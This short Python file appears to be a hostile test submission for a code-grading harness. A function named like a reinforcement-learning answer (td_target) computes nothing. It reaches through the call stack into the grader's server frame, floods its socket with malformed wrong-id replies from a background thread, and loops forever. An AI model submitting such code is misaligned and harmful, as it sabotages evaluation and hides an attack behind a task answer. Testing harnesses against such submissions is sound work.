"""Sends replies with wrong numbers for ever, from threads, while it answers as well."""
# %% first
import json
import socket
import struct
import sys


def serving():
    frame = sys._getframe()
    while frame.f_code.co_name != "_serve":
        frame = frame.f_back
    return frame.f_locals


def frame_of(**message):
    body = json.dumps(message).encode()
    return struct.pack("!I", len(body)) + body

import threading


def flood(line):
    while True:
        line.sendall(frame_of(id="wrong", answer="x" * 100) * 1000)

# %% td_target
def td_target(rewards, next_q, terminated, gamma):
    threading.Thread(target=flood, args=(serving()["self"].connection,), daemon=True).start()
    while True:
        pass
